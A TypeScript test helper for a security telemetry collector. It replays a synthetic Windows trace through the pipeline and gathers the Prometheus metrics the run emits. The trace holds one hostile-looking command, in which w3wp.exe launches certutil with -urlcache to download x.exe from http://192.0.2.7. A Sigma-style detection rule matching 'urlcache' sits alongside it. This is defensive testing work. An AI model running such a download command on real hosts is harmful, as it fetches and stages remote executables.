import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { etwConfig } from '../../receivers/etw/config.ts';
import { EtwReceiver } from '../../receivers/etw/receiver.ts';
import { runConfig } from '../../src/cli/run_config.ts';
import { type AnyDefinition, defineReceiver } from '../../src/component.ts';
import { components } from '../../src/components.ts';
import { loadConfig } from '../../src/config/load.ts';
import { renderIssues } from '../../src/config/render.ts';
import { Source } from '../../src/config/source.ts';
import type { SessionFacts } from '../../src/windows/sessions/control.ts';
import { scenario } from '../scenario/scenario.ts';
import { TestIo } from './cli_io.ts';
import { fakePlatform } from './live_receiver.ts';
import { metricFamilies } from './prometheus_text.ts';

/** Metrics that must be there before a run has shown all that it has: the last to come. */
const LAST = [
  'sigel_receiver_events_lost_total',
  'sigel_exporter_records_dropped_total',
  'sigel_signature_matches_total',
];
const MAX_TURNS = 6000;

/**
 * The metrics that a node's run shows Prometheus, with their labels: everything of config/node.yaml and more, over a session that
 * is a trace and loses events, to a peer that is not there. Takes a few seconds.
 */
export async function emittedMetrics(): Promise<ReadonlyMap<string, ReadonlySet<string>>> {
  const folder = mkdtempSync(join(tmpdir(), 'sigel-emitted-'));
  try {
    return await run(folder);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function run(folder: string): Promise<ReadonlyMap<string, ReadonlySet<string>>> {
  const facts: { eventsLost?: number } = {};
  const loaded = await loadConfig({
    configs: [new Source('config.yaml', configuration(folder))],
    env: {},
    unsupported: 'error',
    definitions: withEtw(folder, facts),
  });
  if (loaded.kind === 'wrong') throw new Error(renderIssues(loaded.issues));
  const io = new TestIo();
  let said = '';
  io.stderr.setEncoding('utf8').on('data', (text: string) => (said += text));
  const running = runConfig(loaded.config, io);
  try {
    for (let turn = 0; turn < MAX_TURNS; turn++) {
      await sleep(10);
      // What was lost before it looked first is none of its own.
      if (said.includes('everything is running')) facts.eventsLost = 7;
      const [, url] = /metrics are served .*url=(\S+)/.exec(said) ?? [];
      if (url === undefined) continue;
      const families = metricFamilies(await (await fetch(url)).text());
      if (LAST.every((name) => families.has(name))) return families;
    }
    throw new Error(`it did not come to all of its metrics:\n${said}`);
  } finally {
    io.interrupt();
    await running;
  }
}

/** All components, with an `etw` receiver that needs no Windows. */
function withEtw(folder: string, facts: Partial<SessionFacts>): readonly AnyDefinition[] {
  const etw = defineReceiver({
    type: 'etw',
    description: 'Plays a trace.',
    signals: ['logs'],
    config: etwConfig,
    create: (context, config, next) =>
      new EtwReceiver(context, config, next.logs, () =>
        Promise.resolve(fakePlatform(folder, [{ name: 'sigel-events', trace: story(), facts }])),
      ),
  });
  return [...components.filter(({ type, kind }) => type !== 'etw' || kind !== 'receiver'), etw];
}

/** One process starts another, which a built-in rule has an eye on. */
function story(): Uint8Array {
  const s = scenario({ kernel: 'none', session: { bufferSize: 16_384 } });
  s.process({ commandLine: 'w3wp.exe -ap "Shop"' })
    .starts('cmd.exe /c certutil -urlcache -f http://192.0.2.7/x.exe x.exe')
    .exits(0);
  return s.trace();
}

function configuration(folder: string): string {
  const rules = join(folder, 'rules');
  writeFileSync(`${rules}.yml`, RULE);
  return `
extensions:
  containerd: { endpoint: "unix:${join(folder, 'none.sock')}" }
  file_storage: { directory: "${join(folder, 'queue')}", create_directory: true }
receivers:
  etw: { preset: security, poll_interval: 100ms }
processors:
  memory_limiter:
  process:
  container_attribution:
  signature: { rules: ["${rules}.yml"] }
  batch: { timeout: 10ms }
exporters:
  otlp_grpc:
    endpoint: "127.0.0.1:1"
    tls: { insecure: true }
    retry_on_failure: { enabled: false }
    sending_queue: { storage: file_storage }
service:
  extensions: [containerd, file_storage]
  drain_timeout: 100ms
  telemetry:
    metrics:
      naming: collector
      readers: [{ pull: { exporter: { prometheus: { port: 0 } } } }]
  pipelines:
    logs:
      receivers: [etw]
      processors: [memory_limiter, process, container_attribution, signature, batch]
      exporters: [otlp_grpc]
`;
}

const RULE = `title: A download
id: 00000000-0000-4000-8000-000000000001
logsource: { product: windows, category: process_creation }
detection:
  selection: { CommandLine|contains: urlcache }
  condition: selection
level: high
`;
